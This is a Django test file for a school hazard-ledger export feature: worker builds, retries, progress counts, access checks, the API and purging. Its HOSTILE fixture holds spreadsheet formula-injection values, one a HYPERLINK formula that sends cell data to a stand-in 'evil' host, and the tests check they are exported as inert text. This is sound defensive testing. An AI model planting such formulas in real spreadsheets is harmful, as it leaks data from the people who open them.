"""Large ledger exports built by the worker: asked for with the ledger page's filter, claimed
by the worker's timer, built outside its transaction with the count of rows committed as it
goes, the person told in the app; only they see or download it; hostile cells stay text; a
build whose worker died is tried again, then failed with the reason; old files purged."""

import datetime as dt
import io
import shutil
import tempfile
import threading
from contextlib import ExitStack
from typing import Any
from unittest import mock

import time_machine
from django.core.exceptions import ValidationError
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from safecampus.api.tests.test_api import ApiTestCase
from safecampus.hazards import export, services
from safecampus.hazards.models import ExportStatus, LedgerExport
from safecampus.hazards.selectors import LedgerFilter
from safecampus.notify.models import Delivery, Notification, Transport
from safecampus.test import Personas, TransactionalTestCase
from safecampus.worker.loop import Worker
from safecampus.worker.models import Timer
from safecampus.worker.testing import drain

from .test_services import HazardCase

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"点击")', "+1+1", "-2", "@SUM(A1)", "＝1+1"]
HEADER = ["序号", "单位", "隐患类别", "隐患地点", "隐患描述", "等级", "整改责任人", "整改时限"]


def _media(test: Any) -> None:
    media = tempfile.mkdtemp(prefix="exports-")
    test.addCleanup(shutil.rmtree, media, ignore_errors=True)
    settings = override_settings(MEDIA_ROOT=media)
    settings.enable()
    test.addCleanup(settings.disable)


def _sheet(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))["隐患台账"]


class ExportCase(HazardCase):
    def setUp(self) -> None:
        super().setUp()
        translation.activate("en")  # the tests read the reasons in English
        _media(self)
        self.a = [
            services.hazard_report(
                by=self.teacher_a,
                unit=self.school_a,
                category="fire",
                description=text,
                area=self.area_a,
                interim=text,
            )
            for text in HOSTILE
        ]
        self.b = services.hazard_report(
            by=self.duty_b, unit=self.school_b, category="gate", description="校门护栏松动"
        )

    def ask(self, person: Any = None, **f: Any) -> LedgerExport:
        return export.ledger_export_request(
            by=person or self.principal_a, f=LedgerFilter(**({"state": "all"} | f))
        )

    def run_worker(self, *, build: bool = True) -> None:
        """The worker's real timer path; the build runs in place of its thread (a TestCase's
        connection is not shared with threads). build=False: the thread never ran (its
        process was killed right after the claim committed)."""
        with ExitStack() as stack:
            stack.enter_context(
                mock.patch.object(
                    export, "background", (lambda fn: fn()) if build else (lambda fn: None)
                )
            )
            stack.enter_context(self.captureOnCommitCallbacks(execute=True))
            drain()

    def file_of(self, job: LedgerExport) -> Any:
        job.refresh_from_db()
        with job.file.open("rb") as f:
            return _sheet(f.read())


class WorkerBuildTests(ExportCase):
    def test_built_by_the_worker_counting_rows_and_the_asker_told_in_the_app(self) -> None:
        job = self.ask()
        self.assertEqual((job.status, job.rows_total, job.rows_done), ("queued", 5, 0))
        self.assertTrue(Timer.objects.filter(kind=export.BUILD, fired_at__isnull=True).exists())
        seen: list[int] = []
        row = export._row

        def counting(h: Any) -> list[str]:
            seen.append(LedgerExport.objects.get(pk=job.pk).rows_done)
            return row(h)

        with (
            mock.patch.object(export, "CHUNK", 2),
            mock.patch.object(export, "PROGRESS_SECONDS", 0),
            mock.patch.object(export, "_row", counting),
        ):
            self.run_worker()
        # The count is written every CHUNK rows as the rows are read (committed as it goes
        # outside a TestCase: see ThreadedBuildTests).
        self.assertEqual(seen, [0, 0, 2, 2, 4])
        job.refresh_from_db()
        self.assertEqual((job.status, job.rows_done, job.rows_total), ("ready", 5, 5))
        self.assertIsNotNone(job.finished_at)
        self.assertFalse(list(export._path(job.file.name).parent.glob("*.part")))
        ws = self.file_of(job)
        self.assertIn("学校安全隐患排查整治台账", ws["A1"].value)
        self.assertEqual([c.value for c in ws[3]][:8], HEADER)
        self.assertEqual(ws.max_row, 3 + 5)
        # Hostile text is text: never a formula, the quote prefix on it, value unchanged.
        descriptions = {ws.cell(row=r, column=5).value for r in range(4, 9)}
        self.assertEqual(descriptions, set(HOSTILE))
        for r in range(4, 9):
            for col in (5, 9):
                cell = ws.cell(row=r, column=col)
                self.assertEqual(cell.data_type, "s", cell.value)
                self.assertTrue(cell.quotePrefix, cell.value)
        self.assertEqual(ws.cell(row=4, column=1).value, 1)
        told = Notification.objects.get(event=export.EVENT)
        self.assertEqual(told.link, reverse("hazards:export", kwargs={"pk": job.pk}))
        self.assertEqual(
            list(told.deliveries.values_list("person", "transport")),
            [(self.principal_a.pk, Transport.INBOX)],
        )

    def test_only_what_the_asker_sees_and_only_what_was_there_when_asking(self) -> None:
        job = self.ask(self.duty_b)
        services.hazard_report(
            by=self.duty_b, unit=self.school_b, category="gate", description="后来的"
        )
        self.run_worker()
        ws = self.file_of(job)
        self.assertEqual(ws.max_row, 4)
        self.assertEqual(ws.cell(row=4, column=5).value, "校门护栏松动")
        job = self.ask(self.officer, category="gate")
        self.run_worker()
        self.assertEqual(self.file_of(job).max_row, 5)

    def test_a_worker_killed_mid_build_is_tried_again_then_failed_with_the_reason(self) -> None:
        clock = timezone.now()
        job = self.ask()
        self.run_worker(build=False)  # claimed, then the process died (kill -9)
        for attempt in range(1, export.MAX_TRIES + 1):
            job.refresh_from_db()
            self.assertEqual(job.status, "building")
            self.assertIn(f"-{attempt}-", job.file.name)
            clock += export.STALL + dt.timedelta(seconds=5)
            with time_machine.travel(clock):
                self.run_worker(build=False)  # the watchdog: queued again, claimed, died again
            job.refresh_from_db()
            if attempt < export.MAX_TRIES:
                self.assertIn("trying again", job.error)
        self.assertEqual(job.status, "failed")
        self.assertIn(f"{export.MAX_TRIES} times", job.error)
        self.assertEqual(job.file.name, "")
        self.assertTrue(Notification.objects.filter(event=export.EVENT, title__contains="failed"))

    def test_a_killed_build_is_built_by_the_next_try(self) -> None:
        job = self.ask()
        self.run_worker(build=False)
        with time_machine.travel(timezone.now() + export.STALL + dt.timedelta(seconds=5)):
            self.run_worker()  # the watchdog queues it again, the next timer builds it
            self.run_worker()
        job.refresh_from_db()
        self.assertEqual((job.status, job.rows_done), ("ready", 5))
        self.assertIn("-2-", job.file.name)

    def test_a_build_still_counting_is_left_alone_and_a_lost_claim_stops(self) -> None:
        job = self.ask()
        self.run_worker(build=False)
        job.refresh_from_db()
        LedgerExport.objects.filter(pk=job.pk).update(rows_done=2)  # it moved
        later = timezone.now() + export.STALL + dt.timedelta(seconds=5)
        with time_machine.travel(later):
            self.run_worker(build=False)
        self.assertEqual(LedgerExport.objects.get(pk=job.pk).status, "building")
        # The build of a claim that is no longer its own writes nothing, leaves no file.
        export.ledger_export_build(pk=job.pk, name="hazards/exports/not-mine.xlsx")
        job.refresh_from_db()
        self.assertEqual(job.status, "building")
        self.assertFalse(export._path("hazards/exports/not-mine.xlsx").exists())

    def test_one_build_at_a_time_per_worker_the_next_waits(self) -> None:
        job = self.ask()
        with mock.patch.object(export, "_running", return_value=export.BUILDS_AT_ONCE):
            self.run_worker()
        job.refresh_from_db()
        self.assertEqual(job.status, "queued")
        with time_machine.travel(timezone.now() + export.BUSY_RETRY + dt.timedelta(seconds=1)):
            self.run_worker()
        job.refresh_from_db()
        self.assertEqual(job.status, "ready")

    def test_a_person_has_few_exports_waiting_at_once(self) -> None:
        for _ in range(export.PER_PERSON):
            self.ask()
        with self.assertRaises(ValidationError) as caught:
            self.ask()
        self.assertIn("export", caught.exception.message_dict)
        self.ask(self.officer)  # someone else may

    def test_old_exports_are_purged_with_their_files_and_a_never_built_one_fails(self) -> None:
        old = self.ask()
        self.run_worker()
        old.refresh_from_db()
        path = export._path(old.file.name)
        self.assertTrue(path.exists())
        stuck = self.ask()
        Timer.objects.filter(kind=export.BUILD, fired_at__isnull=True).delete()  # gave up
        with time_machine.travel(timezone.now() + export.NEVER_BUILT + dt.timedelta(hours=1)):
            self.assertEqual(export.exports_purge(), 0)
        stuck.refresh_from_db()
        self.assertEqual(stuck.status, "failed")
        self.assertIn("Not built within a day", stuck.error)
        with (
            time_machine.travel(timezone.now() + export.KEEP + dt.timedelta(hours=1)),
            self.captureOnCommitCallbacks(execute=True),
        ):
            fresh = self.ask()
            self.assertEqual(export.exports_purge(), 2)
        self.assertFalse(LedgerExport.objects.filter(pk__in=[old.pk, stuck.pk]).exists())
        self.assertFalse(path.exists())
        self.assertTrue(LedgerExport.objects.filter(pk=fresh.pk).exists())

    def test_the_daily_purge_is_a_worker_timer(self) -> None:
        export.purge_ensure()
        timer = Timer.objects.get(kind=export.PURGE, fired_at__isnull=True)
        self.assertEqual(timezone.localtime(timer.due_at).time(), export.PURGE_AT)
        with time_machine.travel(timer.due_at + dt.timedelta(minutes=1)):
            self.run_worker()
        self.assertEqual(Timer.objects.filter(kind=export.PURGE, fired_at__isnull=True).count(), 1)


class ExportPageTests(ExportCase):
    def test_ask_on_the_ledger_follow_the_progress_and_download(self) -> None:
        client = self.client_for(self.principal_a)
        page = client.get(reverse("hazards:ledger"))
        self.assertContains(page, reverse("hazards:export-new"))
        response = client.post(reverse("hazards:export-new"), {"state": "open", "category": "fire"})
        job = LedgerExport.objects.get(requested_by=self.principal_a)
        self.assertRedirects(response, reverse("hazards:export", kwargs={"pk": job.pk}))
        self.assertEqual(job.query["category"], "fire")
        url = reverse("hazards:export", kwargs={"pk": job.pk})
        partial = client.get(url, headers={"HX-Request": "true"})
        self.assertContains(partial, 'hx-trigger="every 2s"')
        self.assertNotContains(partial, "<html")
        self.assertNotContains(partial, reverse("hazards:export-file", kwargs={"pk": job.pk}))
        self.assertEqual(
            client.get(reverse("hazards:export-file", kwargs={"pk": job.pk})).status_code, 404
        )
        self.run_worker()
        partial = client.get(url, headers={"HX-Request": "true"})
        self.assertNotContains(partial, "hx-trigger")  # polling stops
        self.assertContains(partial, reverse("hazards:export-file", kwargs={"pk": job.pk}))
        self.assertContains(client.get(url), "<progress")
        download = client.get(reverse("hazards:export-file", kwargs={"pk": job.pk}))
        self.assertEqual(download.status_code, 200)
        self.assertIn("attachment", download["Content-Disposition"])
        self.assertEqual(_sheet(b"".join(download.streaming_content)).max_row, 8)
        self.assertContains(client.get(reverse("hazards:ledger")), url)

    def test_another_person_gets_404_everywhere(self) -> None:
        job = self.ask()
        self.run_worker()
        for person in (self.officer, self.teacher_a, self.duty_b, self.sysadmin):
            client = self.client_for(person)
            for name in ("hazards:export", "hazards:export-file"):
                response = client.get(reverse(name, kwargs={"pk": job.pk}))
                self.assertEqual(response.status_code, 404, (person, name))
        self.assertEqual(
            self.client_for(self.principal_a)
            .get("/hazards/exports/99999999999999999999/")
            .status_code,
            404,
        )

    def test_a_ledger_too_large_for_the_request_is_offered_to_the_worker(self) -> None:
        client = self.client_for(self.principal_a)
        with mock.patch.object(export, "MAX_ROWS", 2):
            response = client.get(reverse("hazards:xlsx"), {"state": "all", "category": "fire"})
        self.assertContains(response, 'data-testid="export-too-large"')
        self.assertContains(response, 'name="category" value="fire"')
        small = client.get(reverse("hazards:xlsx"), {"state": "all"})
        self.assertEqual(small["Content-Type"], export.xlsx.XLSX_MIME)
        self.assertEqual(_sheet(small.content).max_row, 8)

    def test_a_refused_request_says_why(self) -> None:
        client = self.client_for(self.principal_a)
        for _ in range(export.PER_PERSON):
            self.ask()
        response = client.post(reverse("hazards:export-new"), {"state": "all"}, follow=True)
        self.assertContains(response, "wait for one to finish")
        self.assertEqual(client.get(reverse("hazards:export-new")).status_code, 405)

    def test_a_failed_export_says_why_and_stops_polling(self) -> None:
        job = self.ask()
        LedgerExport.objects.filter(pk=job.pk).update(status=ExportStatus.FAILED, error="坏了")
        partial = self.client_for(self.principal_a).get(
            reverse("hazards:export", kwargs={"pk": job.pk}), headers={"HX-Request": "true"}
        )
        self.assertContains(partial, "坏了")
        self.assertNotContains(partial, "hx-trigger")


class ExportApiTests(ExportCase, ApiTestCase):
    def test_ask_poll_and_fetch(self) -> None:
        api = self.api(self.principal_a)
        response = api.post("/hazards/exports", {"state": "all", "severity": "general"})
        self.assertEqual(response.status_code, 202, response.content)
        body = response.json()
        self.assertEqual((body["status"], body["rows_total"], body["file_url"]), ("queued", 5, ""))
        self.assertEqual(api.get(body["url"].removeprefix("/api/v1")).json()["status"], "queued")
        self.assertEqual(api.get(f"/hazards/exports/{body['id']}/file").status_code, 404)
        self.run_worker()
        body = api.get(f"/hazards/exports/{body['id']}").json()
        self.assertEqual((body["status"], body["rows_done"]), ("ready", 5))
        file = api.get(body["file_url"].removeprefix("/api/v1"))
        self.assertEqual(file.status_code, 200)
        self.assertEqual(_sheet(b"".join(file.streaming_content)).max_row, 8)

    def test_another_caller_gets_404_and_bad_filters_name_their_field(self) -> None:
        job = self.ask()
        other = self.api(self.duty_b)
        self.assertError(other.get(f"/hazards/exports/{job.pk}"), 404)
        self.assertError(other.get(f"/hazards/exports/{job.pk}/file"), 404)
        self.assertError(other.get("/hazards/exports/0"), 404)
        self.assertError(other.post("/hazards/exports", {"state": "gone"}), 422, "state")
        self.assertError(other.post("/hazards/exports", {"category": "=1"}), 422, "category")
        self.assertError(other.post("/hazards/exports", {"under": self.school_a.pk}), 404)
        self.assertEqual(self.api(None).post("/hazards/exports", {}).status_code, 401)
        for _ in range(export.PER_PERSON):
            self.assertEqual(other.post("/hazards/exports", {}).status_code, 202)
        self.assertError(other.post("/hazards/exports", {}), 422, "export")


class ThreadedBuildTests(Personas, TransactionalTestCase):
    """The real thing: the worker's timer claims, the build runs on its own thread after the
    claim commits, and its count is visible to everyone else while it runs."""

    def setUp(self) -> None:
        self.build_district()
        _media(self)
        for i in range(7):
            services.hazard_report(
                by=self.principal_a, unit=self.school_a, category="fire", description=f"隐患{i}"
            )

    def test_progress_is_committed_while_the_build_runs(self) -> None:
        job = export.ledger_export_request(by=self.principal_a, f=LedgerFilter(state="all"))
        reached, go = threading.Event(), threading.Event()
        row = export._row

        calls = []

        def paused(h: Any) -> list[str]:
            calls.append(h)
            if len(calls) == 3:  # rows 1 and 2 are written and counted
                reached.set()
                go.wait(30)
            return row(h)

        worker = Worker(threads=1)
        self.addCleanup(worker.pool.shutdown)
        with (
            mock.patch.object(export, "CHUNK", 2),
            mock.patch.object(export, "PROGRESS_SECONDS", 0),
            mock.patch.object(export, "_row", paused),
        ):
            worker.tick()
            self.assertTrue(reached.wait(30), "the build never started")
            seen = LedgerExport.objects.get(pk=job.pk)  # this thread's own connection
            go.set()
            export.wait_for_builds(60)
        self.assertEqual((seen.status, seen.rows_done), ("building", 2))
        job.refresh_from_db()
        self.assertEqual((job.status, job.rows_done), ("ready", 7), job.error)
        self.assertTrue(
            Delivery.objects.filter(notification__event=export.EVENT, person=self.principal_a)
        )
